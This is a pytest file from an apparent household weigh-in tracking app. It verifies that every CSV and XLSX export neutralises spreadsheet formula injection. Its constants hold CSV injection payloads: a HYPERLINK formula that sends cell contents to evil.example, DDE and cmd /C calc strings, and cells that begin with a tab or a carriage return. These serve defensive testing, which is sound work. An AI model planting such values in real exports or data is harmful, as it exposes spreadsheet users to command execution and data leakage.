"""No CSV the project produces holds a cell a spreadsheet would run as a formula.

Hostile text (household names, communes, notes, scale labels, workshop titles, display names,
mail subjects starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is stored, then:
- every GET route of the app is called as staff and as a family (the access matrix's plan,
  so a new route is called without touching this file); every CSV it answers (`text/csv`, or
  the CSV files of a ZIP) is read back, and every `.xlsx` workbook is checked for formulas;
- every `zw` command that can write CSV is run (found by walking the CLI: a command with a
  `--format` choice `csv`, or listed below);
- no module but `dashboards/csvsafe.py` builds a `csv.writer` (the one place that neutralises).
The lists of known producers fail when a new one appears, so that its test is looked at.
"""
from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import pathlib
import re
import zipfile

import click
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from dashboards.csvsafe import FORMULA_STARTS, csv_text, safe_cell, text_cell
from tests.conftest import PASSWORD, sign_in
from tests.security.matrix import EMAILS, _arg_values, _plan
from tracker import services
from tracker.services import devices as device_service
from tracker.models import Account, Household, WeighIn
from tracker.models import Event, OutgoingMail

ROOT = pathlib.Path(__file__).resolve().parents[2]
NAME = '=HYPERLINK("https://evil.example/?x="&A1;"Voir")'
OTHER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMUNE = "+33 cmd|' /C calc'!A0"
NOTE = "-2+3+cmd|' /C calc'!A0\r=HYPERLINK(\"https://evil.example\")"  # a CR inside too
LABEL = "\t=1+1"
TITLE = "\r=1+1"
DISPLAY = "=DDE(\"cmd\";\"/C calc\";\"x\")"

#: Every route that answers a CSV (directly or in a ZIP), by endpoint: a new one fails the
#: test until it is added here (check that the hostile texts reach it).
CSV_ROUTES = {"staff_cohort.export", "family_privacy.my_data_download",
              "staff_households.export", "staff_cohort.export_excel",
              "staff_cohort.weighins_excel"}
#: Every route that answers an .xlsx workbook.
XLSX_ROUTES = {"staff_cohort.export"}
#: Every `zw` command that writes CSV, with the arguments that make it do so.
CSV_COMMANDS = {
    "weighins export": ["weighins", "export", "--challenge", "defi-2026"],
    "progress export": ["progress", "export", "--challenge", "defi-2026", "--as-of",
                        "2026-04-15"],
}
#: Modules that write CSV (through dashboards.csvsafe), and the producers above that run them.
CSV_WRITERS = {"dashboards/export.py", "tracker/csvio.py", "tracker/services/privacy.py",
               "tracker/cli/weighins.py"}
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?\Z")
SOURCE_DIRS = ("tracker", "dashboards", "ingest", "firmware_bridge")


def make_hostile(app, world) -> None:
    """Hostile texts in every field a person types that reaches an export."""
    with app.extensions["zw_db"].session() as s:
        martin, durand = s.get(Household, world["martin"]), s.get(Household, world["durand"])
        martin.name, martin.commune = NAME, COMMUNE
        durand.name, durand.commune = OTHER_NAME, COMMUNE
        for household in (martin, durand):
            services.record_weighin(s, household, stream="residual", weight_g=1200, note=NOTE,
                                    source="web", measured_at=dt.datetime(
                                        2026, 4, 12, 8, 0, tzinfo=dt.timezone.utc))
            device, _secret = device_service.provision_device(s, household)
            device.label = LABEL
        for account in s.query(Account):
            account.display_name = DISPLAY
        for event in s.query(Event):
            event.title = TITLE
        for mail in s.query(OutgoingMail):
            mail.subject = TITLE
        for weighin in s.query(WeighIn):
            weighin.note = NOTE


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet would read as a formula (a plain number is not one)."""
    return [cell for row in rows for cell in row
            if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(cell)]


def read_csv(text: str) -> list[list[str]]:
    text = text.removeprefix("\ufeff")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def check_csv(where: str, text: str) -> tuple[list[str], int]:
    """(problems, number of neutralised cells) of one CSV file."""
    rows = read_csv(text)
    bad = formula_cells(rows)
    escaped = sum(1 for row in rows for c in row if c[:1] == "'" and
                  c[1:].startswith(FORMULA_STARTS))
    return [f"{where}: formula cell {c!r}" for c in bad], escaped


def csv_files_of(response) -> dict[str, str]:
    """The CSV files of a download: the body itself, or the .csv members of a ZIP."""
    body = response.get_data()
    if response.mimetype == "text/csv":
        return {"": body.decode("utf-8")}
    if response.mimetype == "application/zip":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return {n: archive.read(n).decode("utf-8") for n in archive.namelist()
                    if n.endswith(".csv")}
    return {}


def xlsx_problems(where: str, body: bytes) -> tuple[list[str], int]:
    """Formula cells of a workbook, and how many hostile texts it holds as plain text."""
    problems, texts = [], 0
    for ws in load_workbook(io.BytesIO(body)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{where} {ws.title}!{cell.coordinate}: formula "
                                    f"{cell.value!r}")
                elif isinstance(cell.value, str) and cell.value in (NAME, OTHER_NAME):
                    texts += 1
    return problems, texts


def crawl_downloads(app, ctx, role: str):
    """(endpoint, path, response) of every GET route answering a file, as `role`."""
    client = app.test_client()
    assert sign_in(client, EMAILS[role], PASSWORD).status_code == 302
    for route, rule, method in _plan(app, ctx):
        if method != "GET" or route.kind.startswith("api_") or route.last:
            continue
        for values, whose in _arg_values(app, rule, ctx, role, fresh=False):
            if whose == "other":
                continue
            path = rule.build(values)[1]
            response = client.get(path)
            if response.status_code == 200 and response.mimetype not in (
                    "text/html", "application/json", "text/javascript", "text/css",
                    "image/svg+xml", "application/manifest+json", "text/calendar"):
                yield rule.endpoint, path, response


def test_every_csv_and_xlsx_download_is_safe(app, matrix):
    make_hostile(app, matrix.world)
    problems, seen_csv, seen_xlsx = [], set(), set()
    for role in ("staff", "martin"):
        for endpoint, path, response in crawl_downloads(app, matrix, role):
            where = f"{role} GET {path}"
            if path.endswith(".xlsx"):
                seen_xlsx.add(endpoint)
                bad, texts = xlsx_problems(where, response.get_data())
                problems += bad + ([] if texts else [f"{where}: no hostile name in the "
                                                     f"workbook (the test data missed it)"])
                continue
            files = csv_files_of(response)
            if not files:
                continue
            seen_csv.add(endpoint)
            escaped = 0
            for name, text in files.items():
                bad, n = check_csv(f"{where} {name}".strip(), text)
                problems += bad
                escaped += n
            if not escaped:
                problems.append(f"{where}: no neutralised cell (the hostile texts do not reach "
                                f"this export: seed them in make_hostile)")
    assert not problems, "\n".join(problems)
    assert seen_csv == CSV_ROUTES, (
        f"CSV routes found {sorted(seen_csv)}, listed {sorted(CSV_ROUTES)}: list a new one "
        f"in CSV_ROUTES once its hostile data is seeded; a listed one was not reached")
    assert seen_xlsx == XLSX_ROUTES


def _commands(group, prefix=()):
    for name, command in sorted(group.commands.items()):
        if isinstance(command, click.Group):
            yield from _commands(command, (*prefix, name))
        else:
            yield " ".join((*prefix, name)), command


def _writes_csv(command) -> bool:
    return any(isinstance(p, click.Option) and isinstance(p.type, click.Choice)
               and "csv" in p.type.choices for p in command.params)


def test_every_csv_command_is_listed(app):
    found = {name for name, command in _commands(app.cli) if _writes_csv(command)}
    assert found == set(CSV_COMMANDS), (
        f"`zw` commands writing CSV: {sorted(found)}; listed: {sorted(CSV_COMMANDS)}")


@pytest.mark.parametrize("name", sorted(CSV_COMMANDS))
def test_csv_commands_write_no_formula(app, runner, world, now_in_edition, name):
    make_hostile(app, world)
    result = runner.invoke(args=CSV_COMMANDS[name])
    assert result.exit_code == 0, result.output
    problems, escaped = check_csv(name, result.stdout)
    assert not problems, "\n".join(problems)
    assert escaped >= 2, result.stdout  # the names (and the notes) reached the file


def test_only_csvsafe_builds_csv_writers():
    """One place neutralises: every other module writes CSV through dashboards.csvsafe."""
    offenders, writers = [], set()
    for top in SOURCE_DIRS:
        for path in (ROOT / top).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if (isinstance(node, ast.Attribute) and node.attr in (
                        "writer", "DictWriter", "to_csv")
                        and (node.attr == "to_csv" or getattr(node.value, "id", "") == "csv")
                        and rel != "dashboards/csvsafe.py"):
                    offenders.append(f"{rel}:{node.lineno}: {node.attr}")
                if isinstance(node, ast.ImportFrom) and node.module in (
                        "csv", "dashboards.csvsafe", "tracker.csvio") and any(
                        a.name in ("writer", "DictWriter", "csv_text", "write_csv")
                        for a in node.names):
                    writers.add(rel)
                if isinstance(node, ast.ImportFrom) and node.level == 1 and \
                        node.module == "csvsafe":
                    writers.add(rel)
    assert not offenders, f"CSV written outside dashboards/csvsafe.py: {offenders}"
    assert writers == CSV_WRITERS, (
        f"modules writing CSV: {sorted(writers)}; listed: {sorted(CSV_WRITERS)} (add the new "
        f"one's route or command to CSV_ROUTES / CSV_COMMANDS)")


@pytest.mark.parametrize("value, numeric, expected", [
    ("=1+1", False, "'=1+1"), ("+33 6", False, "'+33 6"), ("-x", False, "'-x"),
    ("@SUM(A1)", False, "'@SUM(A1)"), ("\t=1", False, "'\t=1"), ("\r=1", False, "'\r=1"),
    ("Martin", False, "Martin"), ("", False, ""), (None, False, ""),
    ("-3.0", True, "-3.0"), ("+2", True, "+2"), ("-1,5", True, "-1,5"), ("", True, ""),
    ("-3.0", False, "'-3.0"),  # a text column: a name "-3.0" is text
    ("-1+cmd", True, "'-1+cmd"),  # a numeric column never lets a formula through
    (-3.0, False, -3.0), (-2, False, -2), (True, False, "True"),
    (float("-inf"), False, "'-inf"), (float("nan"), False, "nan"),
])
def test_safe_cell(value, numeric, expected):
    assert safe_cell(value, numeric) == expected


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    """The csv module leaves a lone CR unquoted with LF line ends: a spreadsheet then starts a
    new row at it, and what follows is a cell of its own (found by the property below)."""
    text = csv_text(["household", "note"], [["Martin", "ok\r=1+1"]])
    assert text == 'household,note\nMartin,"ok\r=1+1"\n'
    assert not formula_cells(read_csv(text))


def test_negative_reduction_stays_a_number():
    text = csv_text(["household", "reduction_pct"], [["-Dupont", "-3.0"], [NAME, "12.5"]],
                    numeric=["reduction_pct"])
    assert read_csv(text)[1:] == [["'-Dupont", "-3.0"], ["'" + NAME, "12.5"]]
    assert text_cell("=") == "'="


@given(st.lists(st.tuples(st.text(max_size=12), st.floats(width=32),
                          st.text(alphabet="=+-@\t\r0123456789.,ab", max_size=6)),
                max_size=5))
def test_any_text_reads_back_inert_and_whole(rows):
    """Whatever the texts: no formula cell, and the text is the cell without its `'`."""
    text = csv_text(["name", "value", "pct"], [[n, v, p] for n, v, p in rows],
                    numeric=["pct"])
    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert not formula_cells(back)
    for (name, value, pct), (name_cell, value_cell, pct_cell) in zip(rows, back):
        assert name_cell == ("'" + name if name.startswith(FORMULA_STARTS) else name)
        assert float(value_cell.removeprefix("'")) == value or value != value  # nan
        assert pct_cell.removeprefix("'") == pct
